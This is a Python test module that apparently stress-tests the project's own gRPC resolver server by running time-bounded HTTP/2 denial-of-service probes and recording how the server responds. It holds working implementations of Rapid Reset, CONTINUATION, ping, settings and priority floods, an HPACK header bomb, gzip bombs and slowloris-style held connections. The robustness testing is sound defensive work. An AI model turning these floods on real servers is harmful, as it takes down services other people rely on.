"""What strangers do to a server's port: each probe takes an address, ends by itself, and returns what it saw.

`python -m tests.abuse PROBE ADDRESS` runs one in a process of its own and prints what it saw as JSON, so that neither
its work nor its memory is counted with anybody else's.
"""

import gzip
import os
import resource
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import ExitStack, suppress
from typing import Final

import msgspec

from tests.services import hpack
from tests.services.http2 import (
    CANCEL,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    PREFACE,
    WINDOW,
    WINDOW_MAX,
    ClosedError,
    Connection,
    Ended,
    Kind,
    Setting,
    call_headers,
    frame,
    message,
    settings,
)

RESOLVE: Final = "/topnode.resolver.v1.ResolverService/Resolve"
BATCH: Final = "/topnode.resolver.v1.ResolverService/BatchResolve"
SMALL: Final = b"88.111/small"
LARGE: Final = b"88.111/large"
"""What a server that is probed must hold: LARGE with some 190 KiB."""

FLOOD_SECONDS: Final = 1.5
"""How long a flood lasts at most, however much of it is left."""

HOLD_SECONDS: Final = 1.0
"""How long that is held which is only there."""

CONNECTIONS: Final = 100
"""How often somebody comes back who is sent away."""

PIECE: Final = 512
"""Frames that are sent in one go."""


class Seen(msgspec.Struct):
    """What came of it. Counts by number: error codes of GOAWAY and RST_STREAM, gRPC statuses of calls that ended.

    `sent` counts what the probe is about: frames, calls, or connections. `closed` connections the server ended.
    """

    sent: int = 0
    opened: int = 0
    closed: int = 0
    goaways: dict[int, int] = {}
    resets: dict[int, int] = {}
    statuses: dict[int, int] = {}

    def end(self, connection: Connection) -> None:
        """Note how a connection was."""
        if connection.goaway is not None:
            self.goaways[connection.goaway] = self.goaways.get(connection.goaway, 0) + 1
        for code in connection.resets.values():
            self.resets[code] = self.resets.get(code, 0) + 1


def asking(identifier: bytes, count: int = 1) -> bytes:
    """Encode the request message for an identifier, so many times."""
    return message((b"\x0a" + bytes([len(identifier)]) + identifier) * count)


# --- floods -------------------------------------------------------------------------------------------------------


def _flood(
    address: str,
    count: int,
    pieces: Callable[[Connection], Iterable[tuple[int, bytes]]],
    *,
    is_read: bool = True,
    said: Mapping[int, int] | None = None,
) -> Seen:
    """Send pieces (so many frames, their bytes) until `count` frames are sent or the time is up.

    Whoever is sent away comes back, and begins with a new connection's pieces. Without `is_read` nothing that the
    server says is taken from the socket before the end.
    """
    seen = Seen()
    until = time.monotonic() + FLOOD_SECONDS
    while seen.sent < count and seen.opened < CONNECTIONS and time.monotonic() < until:
        with suppress(ConnectionRefusedError, ConnectionResetError, TimeoutError):
            connection = Connection(address, said=said)
            seen.opened += 1
            with connection:
                seen.sent += _pour(connection, count - seen.sent, pieces(connection), until, is_read=is_read)
                seen.end(connection)
                seen.closed += connection.is_closed
    return seen


def _pour(
    connection: Connection, count: int, pieces: Iterable[tuple[int, bytes]], until: float, *, is_read: bool
) -> int:
    sent = 0
    with suppress(ClosedError, TimeoutError):
        for frames, octets in pieces:
            connection.send(octets, max(0.01, until - time.monotonic()))
            sent += frames
            if is_read:
                connection.waiting()
            if sent >= count or time.monotonic() > until:
                break
        for _ in connection.frames(0.1):
            pass
    return sent


def rapid_reset(address: str, count: int = 50_000) -> Seen:
    """Open calls and give each up at once (CVE-2023-44487)."""
    block = hpack.write(call_headers(RESOLVE))

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            numbers = [connection.stream() for _ in range(PIECE)]
            yield (
                PIECE,
                b"".join(
                    frame(Kind.HEADERS, block, flags=END_HEADERS, stream=number)
                    + frame(Kind.RST_STREAM, CANCEL, stream=number)
                    for number in numbers
                ),
            )

    return _flood(address, count, pieces)


def asked_and_reset(address: str, count: int = 50_000) -> Seen:
    """The same with whole calls, which are answered for nobody."""
    block, body = hpack.write(call_headers(RESOLVE)), asking(SMALL)

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            numbers = [connection.stream() for _ in range(PIECE)]
            yield (
                PIECE,
                b"".join(
                    frame(Kind.HEADERS, block, flags=END_HEADERS, stream=number)
                    + frame(Kind.DATA, body, flags=END_STREAM, stream=number)
                    + frame(Kind.RST_STREAM, CANCEL, stream=number)
                    for number in numbers
                ),
            )

    return _flood(address, count, pieces)


def continuation_flood(address: str, count: int = 4_096) -> Seen:
    """Begin a header block that never ends (VU#421644): 64 MiB of it."""
    begun = hpack.write(call_headers(RESOLVE))
    field = hpack.write([(b"x-more", b"m" * 1_000)])
    more = field * (FRAME_BYTES // len(field))

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        number = connection.stream()
        yield 1, frame(Kind.HEADERS, begun, stream=number)
        while True:
            yield 1, frame(Kind.CONTINUATION, more, stream=number)

    return _flood(address, count, pieces)


def empty_continuation_flood(address: str, count: int = 100_000) -> Seen:
    """The same with nothing in it: no bound in bytes is ever met."""
    begun = hpack.write(call_headers(RESOLVE))

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        number = connection.stream()
        yield 1, frame(Kind.HEADERS, begun, stream=number)
        while True:
            yield PIECE, frame(Kind.CONTINUATION, stream=number) * PIECE

    return _flood(address, count, pieces)


def ping_flood(address: str, count: int = 200_000) -> Seen:
    """Ask for an echo again and again, and take none of them (CVE-2019-9512)."""
    piece = frame(Kind.PING, b"12345678") * PIECE
    return _flood(address, count, lambda _: iter(lambda: (PIECE, piece), None), is_read=False)


def settings_flood(address: str, count: int = 200_000) -> Seen:
    """Have settings acknowledged again and again, and take no acknowledgement (CVE-2019-9515)."""
    piece = b"".join(settings({Setting.MAX_HEADER_LIST_SIZE: FRAME_BYTES + number}) for number in range(PIECE))
    return _flood(address, count, lambda _: iter(lambda: (PIECE, piece), None), is_read=False)


def empty_data_flood(address: str, count: int = 200_000) -> Seen:
    """Send a body of nothing that never ends (CVE-2019-9518)."""

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        number = connection.open_call(RESOLVE, is_whole=False)
        piece = frame(Kind.DATA, stream=number) * PIECE
        while True:
            yield PIECE, piece

    return _flood(address, count, pieces)


def large_headers(address: str, count: int = 200) -> Seen:
    """Send header lists of 256 KiB, which end."""
    field = hpack.write([(b"x-more", b"m" * 1_000)])
    block = hpack.write(call_headers(RESOLVE)) + field * (FRAME_BYTES // len(field))
    more = field * (FRAME_BYTES // len(field))

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            number = connection.stream()
            yield (
                1,
                frame(Kind.HEADERS, block[:FRAME_BYTES], stream=number)
                + frame(Kind.CONTINUATION, block[FRAME_BYTES:], stream=number)
                + frame(Kind.CONTINUATION, more, stream=number) * 14
                + frame(Kind.CONTINUATION, more, flags=END_HEADERS, stream=number),
            )

    return _flood(address, count, pieces)


def header_bomb(address: str, count: int = 200) -> Seen:
    """Send header lists of 64 MiB in 20 KiB: one long field that the table keeps, and 16,000 references to it."""
    kept = b"\x40" + hpack.write([(b"x-more", b"m" * 4_000)])[1:]
    first = hpack.write(call_headers(RESOLVE)) + kept

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            number = connection.stream()
            yield (
                1,
                frame(Kind.HEADERS, first, stream=number)
                + frame(Kind.CONTINUATION, b"\xbe" * FRAME_BYTES, flags=END_HEADERS, stream=number),
            )

    return _flood(address, count, pieces)


def priority_flood(address: str, count: int = 200_000) -> Seen:
    """Say again and again on what streams depend that nobody has opened (CVE-2019-9513)."""

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            numbers = [connection.stream() for _ in range(PIECE)]
            yield PIECE, b"".join(frame(Kind.PRIORITY, b"\0\0\0\0\x10", stream=number) for number in numbers)

    return _flood(address, count, pieces)


def reset_flood(address: str, count: int = 100_000) -> Seen:
    """Have calls reset that are none, and take none of the frames that say so (CVE-2019-9514)."""
    block = hpack.write([(b":method", b"POST")])

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            numbers = [connection.stream() for _ in range(PIECE)]
            yield (
                PIECE,
                b"".join(frame(Kind.HEADERS, block, flags=END_HEADERS | END_STREAM, stream=each) for each in numbers),
            )

    return _flood(address, count, pieces, is_read=False)


def unread_answers(address: str, count: int = 100_000) -> Seen:
    """Ask on and on, with all the window that there is, and take no answer and no refusal."""
    block, body = hpack.write(call_headers(RESOLVE)), asking(SMALL)

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        yield 0, frame(Kind.WINDOW_UPDATE, struct.pack(">I", WINDOW_MAX - WINDOW))
        while True:
            numbers = [connection.stream() for _ in range(PIECE)]
            yield (
                PIECE,
                b"".join(
                    frame(Kind.HEADERS, block, flags=END_HEADERS, stream=each)
                    + frame(Kind.DATA, body, flags=END_STREAM, stream=each)
                    for each in numbers
                ),
            )

    return _flood(address, count, pieces, is_read=False)


def packed_flood(address: str, count: int = 2_000, method: str = RESOLVE, most: int = 4 << 20) -> Seen:
    """Send messages of 4 MiB in 45 KiB: nothing that packs better is unpacked."""
    block = hpack.write(call_headers(method, (b"grpc-encoding", b"gzip")))
    packed = gzip.compress(os.urandom(most // 100).ljust(most, b"\0"))
    body = message(packed, flag=1)

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        while True:
            number = connection.stream()
            parts = [body[at : at + FRAME_BYTES] for at in range(0, len(body), FRAME_BYTES)]
            octets = b"".join(frame(Kind.DATA, part, stream=number) for part in parts[:-1])
            last = frame(Kind.DATA, parts[-1], flags=END_STREAM, stream=number)
            yield len(parts), frame(Kind.HEADERS, block, flags=END_HEADERS, stream=number) + octets + last

    return _flood(address, count, pieces)


def packed_batch_flood(address: str) -> Seen:
    """The same with batches that are as large as packed ones may be."""
    return packed_flood(address, method=BATCH, most=256 << 10)


def dribbled_window(address: str, count: int = 50_000) -> Seen:
    """Take large answers an octet at a time (CVE-2019-9511)."""

    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
        numbers = [connection.open_call(RESOLVE, asking(LARGE)) for _ in range(10)]
        octet = struct.pack(">I", 1)
        while True:
            yield (
                PIECE,
                b"".join(
                    frame(Kind.WINDOW_UPDATE, octet, stream=numbers[turn % len(numbers)]) for turn in range(PIECE)
                ),
            )

    return _flood(address, count, pieces, said={Setting.INITIAL_WINDOW_SIZE: 0})


# --- what is never taken, never sent, never said ------------------------------------------------------------------


def _note(seen: Seen, ended: Iterable[Ended]) -> None:
    statuses = Counter(each.status for each in ended if each.status is not None)
    for status, count in statuses.items():
        seen.statuses[status] = seen.statuses.get(status, 0) + count


def zero_window(address: str, count: int = 256) -> Seen:
    """Ask for large answers whose windows never open, not even by an octet."""
    seen = Seen(opened=1)
    with Connection(address, said={Setting.INITIAL_WINDOW_SIZE: 0}) as connection:
        with suppress(ClosedError, TimeoutError):
            for _ in range(count):
                connection.open_call(RESOLVE, asking(LARGE))
                seen.sent += 1
            for came in connection.frames(HOLD_SECONDS):
                connection.acknowledge(came)
        seen.end(connection)
        seen.closed += connection.is_closed
    return seen


def never_reading(address: str, count: int = 32, connections: int = 1) -> Seen:
    """Ask for answers of 2.6 MiB, give all the window that there is, and take nothing from the socket."""
    said: Mapping[int, int] = {Setting.INITIAL_WINDOW_SIZE: WINDOW_MAX}
    seen = Seen()
    with ExitStack() as opened:
        for _ in range(connections):
            with suppress(ClosedError, TimeoutError):
                connection = opened.enter_context(Connection(address, said=said))
                seen.opened += 1
                connection.send(frame(Kind.WINDOW_UPDATE, struct.pack(">I", WINDOW_MAX - WINDOW)))
                for _ in range(count):
                    connection.open_call(BATCH, asking(LARGE, 14))
                    seen.sent += 1
        time.sleep(HOLD_SECONDS)
    return seen


def never_reading_on_all_streams(address: str) -> Seen:
    """The same on as many streams as a connection may have."""
    return never_reading(address, count=256)


def never_reading_on_many_connections(address: str) -> Seen:
    """The same on connections none of which alone asks for much."""
    return never_reading(address, count=8, connections=32)


def declared_gibibyte(address: str, count: int = 100) -> Seen:
    """Declare messages of 1 GiB, and begin to send them: within the window that a connection has at first."""
    seen = Seen(opened=1)
    body = message(b"x" * 600, length=1 << 30)
    with Connection(address) as connection:
        numbers = []
        with suppress(ClosedError, TimeoutError):
            for _ in range(count):
                numbers.append(connection.open_call(RESOLVE, body, is_whole=False))
                seen.sent += 1
        _note(seen, connection.ended(numbers, 5).values())
        seen.end(connection)
        seen.closed += connection.is_closed
    return seen


def slow_body(address: str, count: int = 200, every: float = 0.5) -> Seen:
    """Send the bodies of many calls an octet at a time."""
    seen = Seen(opened=1)
    with Connection(address) as connection:
        numbers = []
        with suppress(ClosedError, TimeoutError):
            for _ in range(count):
                numbers.append(connection.open_call(RESOLVE, message(b"", length=1_000), is_whole=False))
                seen.sent += 1
            until = time.monotonic() + FLOOD_SECONDS
            while time.monotonic() < until:
                time.sleep(every)
                connection.send(b"".join(frame(Kind.DATA, b"x", stream=number) for number in numbers))
        _note(seen, connection.ended(numbers, 0.1).values())
        seen.end(connection)
        seen.closed += connection.is_closed
    return seen


def _held(address: str, count: int, octets: bytes) -> Seen:
    """Hold connections on which this was said and no more, then see which of them the server has ended."""
    most = _raised_files() - 100
    host, _, port = address.rpartition(":")
    seen = Seen()
    with ExitStack() as opened:
        held: list[socket.socket] = []
        until = time.monotonic() + 10
        while len(held) < min(count, most) and time.monotonic() < until:
            try:
                held.append(opened.enter_context(socket.create_connection((host, int(port)), 1)))
            except OSError:
                seen.closed += 1
                if seen.closed > CONNECTIONS:
                    break
                continue
            # One that has been ended since is looked at with all others.
            with suppress(OSError):
                held[-1].sendall(octets)
        seen.opened = seen.sent = len(held)
        time.sleep(HOLD_SECONDS)
        seen.closed += sum(map(_is_ended, held))
    return seen


def silent_connections(address: str, count: int = 10_000) -> Seen:
    """Connect, and say nothing: 10,000 times, or as often as this process may have files."""
    return _held(address, count, b"")


def half_preface(address: str, count: int = 500) -> Seen:
    """Connect, and stop in the middle of the preface."""
    return _held(address, count, PREFACE[: len(PREFACE) // 2])


def _raised_files() -> int:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return most


def _is_ended(held: socket.socket) -> bool:
    held.setblocking(False)
    try:
        while octets := held.recv(1 << 16):
            pass
    except BlockingIOError:
        return False
    except OSError:
        return True
    return not octets


PROBES: Final[dict[str, Callable[[str], Seen]]] = {
    probe.__name__: probe
    for probe in (
        rapid_reset,
        asked_and_reset,
        continuation_flood,
        empty_continuation_flood,
        ping_flood,
        settings_flood,
        empty_data_flood,
        large_headers,
        header_bomb,
        priority_flood,
        reset_flood,
        unread_answers,
        packed_flood,
        packed_batch_flood,
        dribbled_window,
        zero_window,
        never_reading,
        never_reading_on_all_streams,
        never_reading_on_many_connections,
        declared_gibibyte,
        slow_body,
        half_preface,
        silent_connections,
    )
}


# --- wrong messages ------------------------------------------------------------------------------------------------

_PLAIN: Final = asking(SMALL)[5:]

MALFORMED: Final[dict[str, tuple[bytes, tuple[tuple[bytes, bytes], ...]]]] = {
    "no message": (b"", ()),
    "half a prefix": (asking(SMALL)[:3], ()),
    "longer than the body": (message(_PLAIN, length=len(_PLAIN) + 1), ()),
    "shorter than the body": (message(_PLAIN, length=len(_PLAIN) - 1), ()),
    "two messages": (asking(SMALL) * 2, ()),
    "compressed without encoding": (message(_PLAIN, flag=1), ()),
    "unknown encoding": (message(_PLAIN, flag=1), ((b"grpc-encoding", b"unheard-of"),)),
    "unknown encoding, not compressed": (message(_PLAIN), ((b"grpc-encoding", b"unheard-of"),)),
    "damaged gzip": (message(_PLAIN, flag=1), ((b"grpc-encoding", b"gzip"),)),
    "unknown flag": (message(_PLAIN, flag=2), ()),
    "wrong timeout": (asking(SMALL), ((b"grpc-timeout", b"soon"),)),
}
"""Bodies and further headers of calls that no client of gRPC would make."""


def malformed(address: str, name: str) -> Ended | None:
    """Make one of these calls; None where the server ended the connection, or never answered."""
    body, others = MALFORMED[name]
    with Connection(address) as connection:
        number = connection.open_call(RESOLVE, body, *others)
        return connection.ended((number,), 1).get(number)


if __name__ == "__main__":
    _, _name, _address = sys.argv
    os.write(1, msgspec.json.encode(PROBES[_name](_address)) + b"\n")
